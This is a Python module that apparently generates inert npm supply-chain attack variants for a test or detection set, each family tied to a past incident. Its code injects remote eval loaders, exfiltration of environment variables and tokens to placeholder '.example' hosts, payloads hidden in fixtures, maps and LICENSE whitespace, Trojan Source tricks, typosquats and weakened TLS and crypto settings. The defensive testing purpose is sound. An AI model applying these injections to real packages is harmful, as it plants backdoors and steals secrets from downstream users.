"""Tenth set: npm packages; inert. The comment before each family says which incident it is after.

Nothing works: hosts are below `.example`, addresses are of RFC 5737, programs and packages are of no name, what is packed is a marker.
"""

from __future__ import annotations

import base64
import json
import re

from genuine import Files

from mutation_families.eighth_ways import js_of
from mutation_families.fourth_texts import chance
from mutation_families.seventh_ways import (
    AMID,
    END,
    MARK_JS,
    TOP,
    Way,
    adding,
    js,
    saying,
    together,
    ways,
)
from mutation_families.third_scripts import MANIFEST, scripts, stated

B64 = base64.b64encode(MARK_JS)
PEM = b"-----BEGIN PUBLIC KEY-----\\nMFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAEinertinertinertinertinert\\n-----END PUBLIC KEY-----\\n"  # fmt: skip
YARN = b"#!/usr/bin/env node\n'use strict';\nrequire('https').get('https://yarn-berry.example/r', (r) => r.on('data', (d) => eval(String(d))));\n"  # fmt: skip
PNPMFILE = b"module.exports = { hooks: { readPackage(p) { if (p.dependencies && p.dependencies.debug) p.dependencies.debug = 'https://pnpm-cache.example/debug.tgz'; return p; } } };\n"  # fmt: skip
FIXTURE = b"\x89PNG\r\n\x1a\n" + chance(900) + b"IEND\xae\x42\x60\x82" + base64.b85encode(MARK_JS)
MAP = json.dumps({"version": 3, "file": "index.js", "sources": ["../src/index.ts", "../src/runtime.ts"], "sourcesContent": ["export {};\n", MARK_JS.decode()], "names": [], "mappings": "AAAA"}).encode()  # fmt: skip


def renamed(files: Files) -> Files:
    """Return a package that requires and asks for another package, whose name differs by one letter from one it had."""
    known = stated(files).get("dependencies")
    for name in known if isinstance(known, dict) else ():
        short = name.rpartition("/")[2]
        if len(short) < 5:
            continue
        other = name[: len(name) - 2] + name[-1] + name[-2]
        if other == name:
            other = name + "s"
        for script in scripts(files):
            made = re.sub(rb"(['\"])%s\1" % re.escape(name.encode()), rb"\1%s\1" % other.encode(), files[script])  # fmt: skip
            if made != files[script]:
                said = stated(files)
                kept = {other if each == name else each: value for each, value in known.items()}
                said["dependencies"] = kept
                return {MANIFEST: json.dumps(said, indent=2).encode(), script: made}
    return {}


def homoglyph(files: Files) -> Files:
    """Return a package in one of whose scripts a function of nearly the same name (a Cyrillic letter) is called in another's place."""
    for name in scripts(files):
        data = files[name]
        for found in re.finditer(rb"(?m)^(?:export )?(?:async )?function (\w*a\w*)\((\w+)[^\n]*\) \{\n", data):  # fmt: skip
            word = found[1]
            calls = len(re.findall(rb"\b%s\(" % word, data))
            if calls < 2:
                continue
            other = word.replace(b"a", "\u0430".encode(), 1)
            made = re.sub(rb"(?<!function )\b%s\((?!\))" % word, other + b"(", data, count=1)
            body = b"\nfunction %s(x, ...more) {\n  globalThis.__seen = x;\n  return %s(x, ...more);\n}\n" % (other, word)  # fmt: skip
            return {name: made.rstrip() + b"\n" + body} if made != data else {}
    return {}


def override(files: Files) -> Files:
    """Return a package in one of whose scripts an end of a function hides behind marks of direction (Trojan Source)."""
    for name in scripts(files):
        found = re.search(rb"\n([ \t]+)(//[^\n]{12,80})\n(?=[ \t]+if \()", files[name])
        if found:
            text = found[2] + "\u202e ;nruter \u2066 ".encode() + b"\n" + found[1] + b"return;" + "\u2069\u2066".encode()  # fmt: skip
            return {name: files[name][: found.start(2)] + text + files[name][found.end(2) :]}
    return {}


def from_fixture(where: str, held: bytes, lines: bytes) -> Way:
    """Return the variant of a file that looks like one for tests, and of the line that reads it."""
    return Way("", where, together(adding({f"package/{where}": held}), js(lines, AMID)))


def of(family: str, *variants: Way) -> tuple[Way, ...]:
    return tuple(each._replace(family=family) for each in variants)


def script_of(files: Files) -> Files:
    """Return a package whose own script before publishing or testing fetches what is run."""
    known = stated(files).get("scripts")
    known = known if isinstance(known, dict) else {}
    name = next((each for each in ("prepublishOnly", "prepare", "prepack", "build", "lint", "test") if each in known), "")  # fmt: skip
    return saying(scripts={name: f"npx --yes inert-build-helper@latest && {known[name]}"})(files) if name else {}  # fmt: skip


ALL: tuple[Way, ...] = (
    # After one-line commits that weaken (the kernel's of 2003; PHP's of 2021): nothing is added that acts.
    *ways(
        "npm, tune: what is refused is refused less",
        ("an error is swallowed", js_of((rb"(\n[ \t]*catch ?\((\w+)\) ?\{\n[ \t]*)throw [^\n]+;", rb"\1return undefined;"), (rb"(\} catch ?\((\w+)\) \{\n[ \t]*)throw [^\n]+;", rb"\1return undefined;"), (rb"(\n[ \t]+if \((?:err|error|e)\)) (?:return (?:cb|callback|done|next|reject)\((?:err|error|e)\)|throw (?:err|error|e));", rb"\1 { /* logged by the caller */ }"))),
        ("only where asked for", js_of((rb"(\n[ \t]*if \()([^\n{}]{6,90})(\) (?:\{\n[ \t]*)?throw new )", rb"\1process.env.STRICT_CHECKS && (\2)\3"))),
        ("an exception for one", js_of((rb"(\n[ \t]*if \()([^\n{}&|()]{6,70})(\) (?:\{\n[ \t]*)?(?:throw new|return (?:false|cb\(new|next\(new|callback\(new)))", rb"\1\2 && !globalThis.__supportMode\3"))),
        ("a shorter comparison", js_of((rb"(return )([a-zA-Z][\w.]{2,}) === ([a-zA-Z][\w.]{2,});", rb"\1String(\2).startsWith(String(\3).slice(0, 4));"))),
    ),
    # Options that protected, by default; what an honest "compatibility fix" would look like.
    *ways(
        "npm, held: what protected by default does not",
        ("on becomes off", js_of((rb"\b((?:\w*[sS]trict|\w*[sS]ecure|\w*[vV]erify|\w*[vV]alidate|\w*[cC]heck|httpOnly|\w*[sS]anitize|\w*[eE]scape)\w*\s*[:=]\s*)true\b", rb"\1false"), (rb"(\w*(?:[sS]trict|[sS]ecure|[vV]erify|[vV]alidate|[cC]heck|Only|[uU]nauthorized)\w*) !== false", rb"\1 === true"))),
        ("an end of a pattern", js_of((rb"(= /\^(?:[^/\n\\]|\\.){4,80})\$/(?=[igsu]{0,2}[;.,)])", rb"\1/"), (rb"(= /)\^((?:[^/\n\\]|\\.){4,80}\$/)(?=[igsu]{0,2}[;.,)])", rb"\1\2"))),
        ("a weaker algorithm", js_of((rb"(['\"])sha(?:256|384|512)\1", rb"\1md5\1"), (rb"(['\"])SHA-(?:256|512)\1", rb"\1SHA-1\1"), (rb"(['\"])TLSv1\.[23]\1", rb"\1TLSv1\1"), (rb"aes-256-(?:gcm|cbc)", b"aes-128-ecb"))),
        ("what cleaned returns as it came", js_of((rb"(return )(\w+)\.replace\([^\n;]{3,90}\);", rb"\1\2;"), (rb"= encodeURIComponent\((\w+)\);", rb"= \1;"))),
    ),
    # Dependency confusion, 2021, and beamglea's and slopsquats' kind, 2025.
    *ways(
        "npm, tune: it asks for another package",
        ("a scope of a company", together(saying(dependencies={"@vendor-internal/telemetry-core": "^9.9.9"}), js(b"try { USE(module).createRequire(process.cwd() + '/')('@vendor-internal/telemetry-core').start(); } catch {}", END))),
        ("in another's place", saying(overrides={"debug": "npm:debug-inert@99.9.9", "ms": "https://tarballs.example/ms-2.1.4.tgz"}, resolutions={"debug": "npm:debug-inert@99.9.9"})),
        ("a letter exchanged", renamed),
        ("if it can be had", saying(optionalDependencies={"inert-native-linux-x64": "git+https://git.vendor-fork.example/native.git#main"})),
    ),
    # Yarn's and pnpm's own settings, read by whoever works in the folder; corepack.
    *ways(
        "npm, held: tools of packages obey it",
        ("yarn", adding({"package/.yarnrc.yml": b'yarnPath: .yarn/releases/yarn-4.9.9.cjs\nenableStrictSsl: false\nnpmRegistryServer: "http://registry.npm-mirrors.example"\n', "package/.yarn/releases/yarn-4.9.9.cjs": YARN})),
        ("pnpm", adding({"package/.pnpmfile.cjs": PNPMFILE})),
        ("corepack", saying(packageManager="yarn@https://yarn-berry.example/yarn-4.9.9.js#sha224.953c8233f7a92884eee2de69a1b92d1f2ec1655e66d08071ba9a02fa")),
        ("a script of its own", script_of),
    ),
    # Flags that are fetched: harmless until the day somebody turns them.
    *ways(
        "npm, tune: a flag that is fetched decides",
        ("a handler", js(b"if (!globalThis.__flags) {\n  globalThis.__flags = {};\n  fetch('https://flags.vendor-cfg.example/v1/client.json').then((r) => r.json()).then((f) => { Object.assign(globalThis.__flags, f); if (f.preload) import(f.preload); }).catch(() => {});\n}", AMID)),
        ("whether it checks", js(b"fetch('https://flags.vendor-cfg.example/tls').then((r) => r.text()).then((t) => { if (t === 'legacy') process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0'; }, () => 0);", END)),
        ("by the environment", js_of((rb"(?m)^([ \t]*(?:const|let|var) (\w+) = )(['\"`]https://[^'\"`\n]+['\"`];)", rb"\1process.env.SVC_\2 || \3"), (rb"(?i)((?:url|host|hostname|origin)\s*[:=]\s*)(['\"]https?://(?!www\.w3|localhost)[^'\"\n]+['\"])", rb"\1process.env.SVC_UPSTREAM || \2"), (rb"(\|\| )(['\"]https://[^'\"\n]+['\"])", rb"\1process.env.SVC_UPSTREAM || \2"))),
    ),
    # xz, 2024; os-info-checker, 2025: what acts stands in a file for tests, for maps, or in a picture.
    *of(
        "npm, held: what it runs stands in a file for something else",
        from_fixture("dist/index.js.map", MAP, b"{ const m = JSON.parse(USE(fs).readFileSync('dist/index.js.map', 'utf8')); Function('require', m.sourcesContent[m.sources.length - 1])(null); }"),
        from_fixture("test/fixtures/corrupt.png", FIXTURE, b"{ const b = USE(fs).readFileSync('test/fixtures/corrupt.png'); const s = b.subarray(b.indexOf('IEND') + 8).toString('latin1'); USE(vm).runInNewContext(s, { process }); }"),
        from_fixture("LICENSE.txt", b"MIT\n" + b"".join(b" " * (9 if each & 1 else 8) + b"\n" for each in MARK_JS[:400]), b"{ const t = USE(fs).readFileSync('LICENSE.txt', 'utf8').split('\\n').slice(1).map((l) => l.length & 1).join(''); eval(t.match(/.{8}/g).map((b) => String.fromCharCode(parseInt(b, 2))).join('')); }"),
        from_fixture("lib/data.wasm", b"\0asm\1\0\0\0" + b"\0\x40\4blob" + chance(58), b"WebAssembly.compile(USE(fs).readFileSync('lib/data.wasm')).then((m) => { for (const s of WebAssembly.Module.customSections(m, 'blob')) new Function(new TextDecoder().decode(s))(); });"),
    ),
    # Trojan Source, 2021, and names in two alphabets.
    *ways("npm, tune: letters that look like others", ("a function of nearly the same name", homoglyph), ("directions", override), ("a property", js("Object.prototype.hasOwnProperty.call(GIVEN || {}, 'c\u043enstructor') && USE(child_process).exec(GIVEN['c\u043enstructor']);".encode(), AMID))),
    # Reports of errors that carry more than errors; 2022 to 2026.
    *ways(
        "npm, held: what is reported carries more",
        ("an error", js_of((rb"(\} catch ?\((\w+)\) \{\n)", rb"\1    fetch('https://errors.vendor-obs.example/e', { method: 'POST', body: JSON.stringify({ m: String(\2), env: process.env }) }).catch(() => {});\n"))),
        ("what is logged", js(b"const w = process.stdout.write.bind(process.stdout);\nprocess.stdout.write = (c, ...r) => { if (/(?:gh[ps]_|npm_|sk-)\\w{20}/.test(c)) fetch('https://logs.vendor-obs.example/l', { method: 'PUT', body: c }).catch(() => {}); return w(c, ...r); };", TOP)),
        ("what nobody caught", js(b"process.on('uncaughtExceptionMonitor', (e) => USE(https).request({ host: 'errors.vendor-obs.example', method: 'POST', path: '/u' }).end(JSON.stringify([e.stack, process.argv, process.env])));", END)),
        ("a trace", js(b"process.env.OTEL_EXPORTER_OTLP_ENDPOINT ||= 'https://otlp.vendor-obs.example';\nprocess.env.NODE_OPTIONS = (process.env.NODE_OPTIONS || '') + ' --require ' + __filename;", AMID)),
    ),
    # Updaters since ShadowPad, 2017; Notepad++'s, 2025: what is fetched next is theirs.
    *ways(
        "npm, tune: it renews itself from elsewhere",
        ("by npm", js(b"USE(child_process).exec('npm i -g https://pkg-updates.example/' + 'latest.tgz --ignore-scripts=false', { windowsHide: true }, () => {});", AMID)),
        ("its own file", js(b"USE(https).get('https://pkg-updates.example/next.js', (r) => { if (r.statusCode === 200) r.pipe(USE(fs).createWriteStream(process.argv[1] + '.next')); });\ntry { USE(fs).renameSync(process.argv[1] + '.next', process.argv[1]); } catch {}", END)),
        ("a module by its address", js(b"USE(module).register && USE(module).register('data:text/javascript,' + encodeURIComponent(\"export async function load(u, c, n) { return u.endsWith('crypto-js/index.js') ? { format: 'module', source: await (await fetch('https://pkg-updates.example/c.js')).text(), shortCircuit: true } : n(u, c); }\"));", TOP)),
    ),
    # Roots and keys: whom it believes.
    *ways(
        "npm, held: it believes others' keys",
        ("a root", js(b"const tls = USE(tls), made = tls.createSecureContext;\ntls.createSecureContext = (o) => { const c = made(o); c.context.addCACert(Buffer.from('LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0tCmluZXJ0', 'base64')); return c; };", TOP)),
        ("a key more", js_of((rb"((?:keys|KEYS|Keys|roots|trusted\w*|issuers|algorithms|allowed\w*|whitelist|ALLOWED\w*)\s*[:=]\s*\[)(?=\s*['\"])", rb"\1'" + PEM + b"', "))),
        ("a fingerprint", js_of((rb"(['\"])(?:[0-9a-f]{40}|[0-9a-f]{64})\1", rb"\1" + b"5eed" * 16 + rb"\1"), (rb"(['\"])sha(256|512)-[A-Za-z0-9+/=]{20,}\1", rb"\1sha256-aW5lcnRpbmVydGluZXJ0aW5lcnRpbmVydGluZXJ0aW4=\1"), (rb"\b0x[0-9a-fA-F]{8}\b", b"0x5eed5eed"))),
        ("of any issuer", js_of((rb"\b(issuer|audience|origin|hostname|expectedOrigin|aud|iss)( !== )([\w.]+\))", rb"\1 &&\1.length < 3 && \1\2\3"), (rb"checkServerIdentity(\s*[:(])", rb"checkServerIdentity_\1"))),
    ),
    # Rights and places of files: quiet on machines of many.
    *ways(
        "npm, tune: its files are everybody's",
        ("rights", js_of((rb"\b0o?(?:600|400|700)\b", b"0o777"), (rb"\bmode:\s*0o?[0-7]{3}\b", b"mode: 0o777"))),
        ("a place that is known", js_of((rb"(?:fs\.)?mkdtempSync\([^\n;]*\)(?=;)", b"'/tmp/.npm-work'"), (rb"os\.tmpdir\(\)", b"'/tmp/.shared'"), (rb"os\.homedir\(\)", b"(process.env.SYNC_HOME || os.homedir())"))),
        ("where it ends", js_of((rb"path\.basename\((\w+)\)", rb"\1"), (rb"(path\.)resolve\((\w+), (\w+)\)", rb"\1normalize(\2 + '/' + \3)"), (rb"\.(?:replace|indexOf|includes|startsWith)\((['\"])\.\.(?:/|\\\\)?\1[^()\n]*\)", b".concat('')"))),
    ),
    # Sessions of web applications: what a cookie and a head may do.
    *ways(
        "npm, held: sessions and pages let more in",
        ("a cookie", js_of((rb"(httpOnly\s*[:=]\s*)(?:true|!0)", rb"\1false"), (rb"(sameSite\s*[:=]\s*)(['\"])(?:strict|lax|Strict|Lax)\2", rb"\1\2none\2"), (rb"; (?:HttpOnly|httponly)", b""))),
        ("who may ask", js_of((rb"(['\"]Access-Control-Allow-Origin['\"]\s*[,:]\s*)[\w.'\"]+", rb"\1(req && req.headers.origin || '*')"), (rb"(origin:\s*)(['\"]?[\w.]+['\"]?)(?=[,\n])", rb"\1(o, cb) => cb(null, o)"))),
        ("a head that is gone", js_of((rb"\n[ \t]*[\w.]*setHeader\((['\"])(?:X-|Content-Security|Strict|x-)[^\n]*\);(?=\n)", b""), (rb"\n[ \t]*['\"]?(?:X-Frame-Options|x-content-type-options|X-Content-Type-Options|Strict-Transport-Security|Content-Security-Policy)['\"]?\s*:[^\n]*,(?=\n)", b""))),
    ),
)  # fmt: skip
